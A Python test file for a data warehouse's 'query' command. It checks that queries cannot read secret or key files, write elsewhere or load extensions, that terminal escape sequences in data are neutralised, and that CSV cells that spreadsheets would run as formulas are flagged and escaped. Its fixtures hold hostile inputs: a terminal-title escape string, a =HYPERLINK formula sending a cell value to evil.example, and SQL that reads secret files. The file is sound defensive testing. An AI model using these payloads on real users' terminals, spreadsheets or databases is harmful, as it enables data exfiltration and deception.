"""What `query` refuses to reach, and what it makes of texts that a terminal or a spreadsheet would run."""

import csv
import io
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from sighten_warehouse.cli.main import commands
from support.factories import a_comment, a_milestone
from support.warehouses import Warehouse

TITLE = "\x1b]0;owned\x07\x9b31m\u202e"
LINK = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Warehouse:
    """A warehouse whose texts attack who looks at them, for reading only."""
    warehouse = Warehouse(tmp_path_factory.mktemp("hostile"))
    comments = [a_comment(text, text, f"2025-03-01T10:00:0{at}Z") for at, text in enumerate((TITLE, LINK, "-12.5"))]
    warehouse.deliver(a_milestone(comments=comments, name=f"{TITLE}name", description="+1+1"))
    return warehouse


def query(warehouse: Warehouse, *arguments: str) -> Result:
    return CliRunner().invoke(commands, ["query", *arguments], env={"SIGHTEN_HOME": str(warehouse.settings.home)})


@pytest.mark.parametrize(
    "sql",
    [
        "from read_text('{secret}')",
        "from '{secret}'",
        "from read_csv('{secret}', header = false)",
        "from glob('{secret}')",
        "select content from read_blob('{home}/pseudonyms.key')",
        "from read_text('{home}/landing/**')",
        "copy (from users) to '{folder}/out.csv'",
        "copy (from users) to '{lake}/out.csv'",
        "explain analyze copy (from users) to '{lake}/out.csv'",
        "explain (analyze) copy (from users) to '{lake}/out.csv'",
        "explain /* a */ analyze copy (from users) to '{lake}/out.csv'",
        "export database '{lake}/out'",
        "attach '{folder}/out.duckdb' as other",
        "set enable_external_access = true",
        "install httpfs",
        "load json",
        "from rows",
        "drop table tasks",
        "create temp table one as select 1 as two",
    ],
)
def test_a_query_reads_and_writes_no_other_file(hostile: Warehouse, tmp_path: Path, sql: str) -> None:
    layout, secret = hostile.settings.layout, tmp_path / "secret.csv"
    secret.write_text("a secret\n")
    before = sorted(layout.root.rglob("*"))

    refused = query(hostile, sql.format(secret=secret, home=layout.root, folder=tmp_path, lake=layout.lake.resolve()))

    assert 2 == refused.exit_code, refused.output
    assert "a secret" not in refused.output
    assert (before, [secret]) == (sorted(layout.root.rglob("*")), list(tmp_path.iterdir()))


@pytest.mark.parametrize(
    "sql",
    [
        "select milestone_id from history.milestones",
        "select milestone_id from milestones_as_of(timestamp '2030-01-01')",
        "with ids as (select milestone_id from masked.milestones) from ids",
        "describe milestones",
        "explain analyze select * from history.milestones",
        "pragma table_info('milestones')",
    ],
)
def test_a_query_still_reads_tables_history_and_macros(hostile: Warehouse, sql: str) -> None:
    found = query(hostile, sql, "--format", "json")

    assert 0 == found.exit_code, found.output
    assert "[]" != found.stdout.strip()


def test_a_table_shows_no_control_character_of_a_value_or_a_column(hostile: Warehouse) -> None:
    shown = query(hostile, f"""select name, 'a\nb' as "{TITLE}" from milestones""")

    assert 0 == shown.exit_code, shown.output
    assert "�]0;owned��31m�name" in shown.stdout
    assert [] == [character for character in shown.stdout if not character.isprintable() and character != "\n"]


def test_an_error_shows_no_control_character_of_the_query(hostile: Warehouse) -> None:
    refused = query(hostile, f'select "{TITLE}" from milestones')

    assert 2 == refused.exit_code
    assert [] == [character for character in refused.stderr if not character.isprintable() and character != "\n"]


def test_csv_is_byte_for_byte_in_a_pipe_and_harmless_on_a_terminal(hostile: Warehouse) -> None:
    arguments = ["query", "select name from milestones", "--format", "csv"]
    piped = query(hostile, *arguments[1:])

    ours, terminal = pty.openpty()
    command = Path(sys.executable).with_name("sighten-warehouse")
    environment = os.environ | {"SIGHTEN_HOME": str(hostile.settings.home)}
    subprocess.run([command, *arguments], env=environment, stdout=terminal, stderr=terminal, check=True, timeout=60)
    shown = os.read(ours, 4096)
    os.close(ours)
    os.close(terminal)

    assert f"{TITLE}name".encode() in piped.stdout_bytes
    assert "�]0;owned��31m�name" in shown.decode()
    assert b"\x1b" not in shown


def test_formulas_are_warned_of_in_csv_and_escaped_on_request(hostile: Warehouse) -> None:
    sql = (
        """select comment, c.position as "=1+1" from comments as c where comment not like '%owned%' order by position"""
    )

    bare = query(hostile, sql, "--format", "csv")
    escaped = query(hostile, sql, "--format", "csv", "--escape-formulas")

    assert [["comment", "=1+1"], [LINK, "2"], ["-12.5", "3"]] == list(csv.reader(io.StringIO(bare.stdout)))
    assert "warning: 2 texts would run as formulas in a spreadsheet program; --escape-formulas" in bare.stderr
    assert [["comment", "'=1+1"], [f"'{LINK}", "2"], ["-12.5", "3"]] == list(csv.reader(io.StringIO(escaped.stdout)))
    assert "warning" not in escaped.stderr
    assert 2 == query(hostile, sql, "--escape-formulas").exit_code
